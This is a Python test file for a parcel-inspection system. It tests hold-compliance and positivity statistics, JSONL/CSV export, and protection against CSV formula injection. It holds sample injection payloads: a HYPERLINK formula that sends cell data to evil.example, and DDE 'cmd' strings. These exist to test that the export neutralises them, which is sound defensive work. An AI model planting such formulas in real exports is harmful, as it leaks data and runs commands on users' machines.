"""Statistics (hold compliance, positivity) and export, on a store with known content."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from parcels.export import write_export
from parcels.query import parse_when
from parcels.records import HoldState
from parcels.stats import hold_compliance, period_key, positivity
from parcels.store import SQLiteStore, Store

from .builders import DEVICE, KEY, identification, item_id, parcel, spectrum


@pytest.fixture
def filled(store: Store) -> Store:
    # November: 4 holds requested (days 0-3), December: 2 (days 30, 31)
    rows = [(n, parcel(n, hold=n in (0, 1, 2, 3, 30, 31), day=n,
                       origin="CN" if n % 2 else "MX",
                       category="gift" if n < 3 else "sale of goods")) for n in range(32)]
    store.import_parcels(rows, actor="aed", source="b")
    for n in (0, 1, 2, 30):
        store.transition(item_id(n), HoldState.HELD, actor="o")
    store.transition(item_id(3), HoldState.NOT_FOUND, actor="o")
    for n, verdict in ((0, "MATCH"), (1, "NO_MATCH"), (2, "MATCH"), (30, "INCONCLUSIVE")):
        store.add_inspection(item_id(n), spectrum(n, n=100), identification(verdict),
                             operator="o", station="s", device=DEVICE)
    return store


def test_hold_compliance_by_month(filled: Store) -> None:
    rows = hold_compliance(filled, period="month")
    got = [(r.period, r.requested, r.held, r.not_found, r.open, r.rate) for r in rows]
    # holds are requested one hour before receipt: parcel 0 on 2026-11-01 07:15
    assert got == [("2026-11", 4, 3, 1, 0, 0.75), ("2026-12", 2, 1, 0, 1, 0.5)]
    assert hold_compliance(filled, period="all")[0].rate == pytest.approx(4 / 6)
    dec = hold_compliance(filled, since=datetime(2026, 12, 1, tzinfo=UTC))
    assert [r.requested for r in dec] == [2]


def test_positivity(filled: Store) -> None:
    by_origin = {r.key: (r.inspected, r.positive, r.verdicts) for r in positivity(filled)}
    # MX: parcels 0 (MATCH cocaine: alert), 2 (alert), 30 (INCONCLUSIVE); CN: 1 (NO_MATCH)
    assert by_origin == {
        "CN": (1, 0, {"NO_MATCH": 1}),
        "MX": (3, 2, {"INCONCLUSIVE": 1, "MATCH": 2}),
    }
    by_cat = {r.key: (r.inspected, r.positive) for r in positivity(filled, by="category")}
    assert by_cat == {"gift": (3, 2), "sale-of-goods": (1, 0)}


def test_period_keys() -> None:
    t = datetime(2026, 11, 20, tzinfo=UTC)
    assert [period_key(t, p) for p in ("day", "week", "month", "all")] == \
        ["2026-11-20", "2026-W47", "2026-11", "all"]
    assert parse_when("2026-11-20", end=True) == datetime(2026, 11, 21, tzinfo=UTC)
    with pytest.raises(ValueError, match="timezone"):
        parse_when("2026-11-20T08:00:00")


def test_export_jsonl_and_csv(filled: Store) -> None:
    files = [filled.get_parcel(item_id(n)) for n in (0, 5)]
    buf = io.StringIO()
    n, digest = write_export(files, buf, "jsonl")
    lines = [json.loads(x) for x in buf.getvalue().splitlines()]
    assert n == 2 and len(digest) == 64
    assert lines[0]["parcel"]["item_id"] == item_id(0)
    assert lines[0]["inspections"][0]["results"][0]["verdict"] == "MATCH"
    assert lines[0]["hold"]["state"] == "inspected"

    buf = io.StringIO(newline="")
    n, digest2 = write_export(files, buf, "csv")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert n == 2 and digest2 != digest
    assert rows[0]["item_id"] == item_id(0) and rows[0]["evidence.alert"] == "true"
    assert rows[0]["evidence.verdicts"] == "MATCH"
    assert rows[1]["evidence.hold_state"] == "" and rows[1]["evidence.inspections"] == "0"


# -- CSV injection (OWASP): no cell a spreadsheet would run as a formula ------------------------
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _first_char_is_safe(cell: str) -> bool:
    from parcels.text import is_number_text

    return cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or is_number_text(cell)


def test_csv_export_neutralises_formula_cells_and_reads_back_exactly(
        store: SQLiteStore, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from parcels.aed import import_batch

    rows = []
    for k, formula in enumerate(FORMULAS, start=1):
        p = parcel(k, **{"carrier_ref": formula, "=cmd": "x"})  # a formula as a column too
        rows.append((k, p))
    legit = parcel(10, balance="-12.5", delta=-3, note="'quoted")
    legit_row = legit.model_dump(mode="json")
    legit_row["sender"]["name"] = "-Dash Corp"  # a real name starting with '-'
    legit_row["declaration"]["items"][0]["description"] = "+ sign pens"
    rows.append((10, type(legit).model_validate(legit_row)))
    store.import_parcels(rows, actor="aed", source="b")
    files = [store.get_parcel(p.item_id) for _, p in rows]

    buf = io.StringIO(newline="")
    write_export(files, buf, "csv")
    text = buf.getvalue()
    table = list(csv.reader(io.StringIO(text)))
    for cells in table:
        for cell in cells:
            assert _first_char_is_safe(cell), f"formula cell written as is: {cell!r}"
    header = table[0]
    assert "'=cmd" in header
    by_id = {r[header.index("item_id")]: dict(zip(header, r, strict=True)) for r in table[1:]}
    leg = by_id[item_id(10)]
    assert leg["balance"] == "-12.5" and leg["delta"] == "-3"  # numbers stay numbers
    assert leg["sender.name"] == "'-Dash Corp" and leg["note"] == "''quoted"

    # the CSV import reads every cell back as it was: the round trip is exact
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    other = SQLiteStore(tmp_path / "other.db", signer=KEY)
    try:
        s = import_batch(other, path, actor="x")
        assert s.rejected == () and s.inserted == len(rows)
        for _, p in rows:
            back = other.get_parcel(p.item_id).parcel.model_dump(mode="json")
            back.pop("evidence")  # the export's summary columns, read as an extra field
            want = p.model_dump(mode="json")
            if "delta" in want:  # CSV has no types: the number comes back as text
                want["delta"] = str(want["delta"])
            if "carrier_ref" in want:  # the CSV import strips blanks around every cell
                want["carrier_ref"] = want["carrier_ref"].strip()
            assert back == want
    finally:
        other.close()


def test_neutralise_and_restore_are_inverse() -> None:
    from parcels.text import neutralise_formula, restore_formula

    for v in ("=1+1", "+1", "-1", "-1.5e3", "@x", "\tx", "\rx", "'", "''", "'=x", "plain", "",
              "-Dash", "1-2", "- 1"):
        assert restore_formula(neutralise_formula(v)) == v
    assert neutralise_formula("-1.5e3") == "-1.5e3" and neutralise_formula("- 1") == "'- 1"
    assert restore_formula("'plain") == "'plain"  # not something we wrote: left as it is
